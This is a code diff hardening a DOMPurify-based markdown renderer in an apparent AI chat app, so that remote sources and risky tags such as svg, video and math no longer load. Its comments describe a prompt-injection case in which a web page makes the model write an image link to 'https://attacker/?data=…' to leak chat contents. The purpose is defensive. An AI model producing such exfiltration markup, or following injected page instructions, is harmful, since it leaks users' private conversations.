@@ -21,12 +21,12 @@ DOMPurify.addHook('afterSanitizeAttributes', (node) => {
     node.setAttribute('target', '_blank')
     node.setAttribute('rel', 'noopener noreferrer')
   }
-  // An image from elsewhere would load by itself: a page the agent read could have the
-  // model write `![](https://attacker/?data=…)` and learn what was in the chat. Only
+  // Anything from elsewhere that would load by itself: a page the agent read could have
+  // the model write `![](https://attacker/?data=…)` and learn what was in the chat. Only
   // this app's own images (and inline data) load; the others show their alt text.
-  if (node.tagName === 'IMG' && !ownImage(node.getAttribute('src') ?? '')) {
-    node.removeAttribute('src')
-    node.removeAttribute('srcset')
+  for (const name of ['src', 'href', 'xlink:href']) {
+    const value = node.getAttribute(name)
+    if (value !== null && node.tagName !== 'A' && !ownImage(value)) node.removeAttribute(name)
   }
 })
 
@@ -39,12 +39,13 @@ function ownImage(src: string): boolean {
   }
 }
 
-// No forms or styles a prompt-injected answer could dress up as this app's own UI.
-const FORBID_TAGS = ['form', 'input', 'button', 'textarea', 'select', 'style']
+// No forms or styles a prompt-injected answer could dress up as this app's own UI, and
+// nothing that loads from elsewhere through attributes not checked above.
+const FORBID_TAGS = ['form', 'input', 'button', 'textarea', 'select', 'style', 'picture', 'source', 'video', 'audio', 'svg', 'math']
 
 export function renderMarkdown(source: string): string {
   return DOMPurify.sanitize(marked.parse(source, { async: false }) as string, {
     FORBID_TAGS,
-    FORBID_ATTR: ['style'],
+    FORBID_ATTR: ['style', 'srcset', 'poster', 'background'],
   })
 }
